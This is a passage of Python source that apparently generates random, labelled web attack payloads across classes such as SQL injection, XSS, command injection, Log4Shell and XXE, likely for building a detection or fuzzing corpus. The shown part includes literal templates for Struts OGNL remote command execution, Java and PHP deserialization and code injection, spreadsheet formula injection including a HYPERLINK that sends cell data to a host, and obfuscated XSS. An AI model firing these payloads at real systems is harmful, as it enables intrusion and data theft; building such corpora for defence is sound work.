"AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0s", f"O:+{len(word)}:\"{word}\":0:{{}}", "<java version=\"1.7\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.ProcessBuilder\">"))
    return rng.choice((f"(#context[\"xwork.MethodAccessor.denyMethodExecution\"]=false,@java.lang.Runtime@getRuntime().exec('{command}'))", f"redirect:${{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{{'{command}'}})).start()}}", f"{word}/../../{word}.php?={rng.choice(('<?php', 'eval('))}", f"<?xml version=\"1.0\"?><?xml-stylesheet href=\"http://{fields['host']}/{word}.xsl\"?><xsl:value-of select=\"system-property('xsl:vendor')\"/>", f"=cmd|'/C calc'!A0", f"@SUM(1+1)*cmd|' /C calc'!A0", f"=HYPERLINK(\"http://{fields['host']}?x=\"&A1)", "{__schema{types{name,fields{name}}}}", "\u202e" + f"{word}<?php", f"<?php phpinfo();?>", f"%{{{number}*{number}}}", f"{word}';phpinfo();//", f"-1 procedure {word}", f"<foo/><bar>]]></bar><inj>{word}</inj>", "<![CDATA[<]]>script<![CDATA[>]]>alert(1)<![CDATA[<]]>/script<![CDATA[>]]>"))


FAMILIES = ((sqli, "sqli", 0.22), (xss, "xss", 0.16), (traversal, "traversal", 0.14), (cmdi, "cmdi", 0.16),
            (log4shell, "log4shell", 0.08), (shellshock, "shellshock", 0.04), (xxe, "xxe", 0.06), (other, "other", 0.14))


def payload(rng: random.Random):
    """One attack: its class and its text."""
    make, name, _ = rng.choices(FAMILIES, [weight for _, _, weight in FAMILIES])[0]
    return name, make(rng)
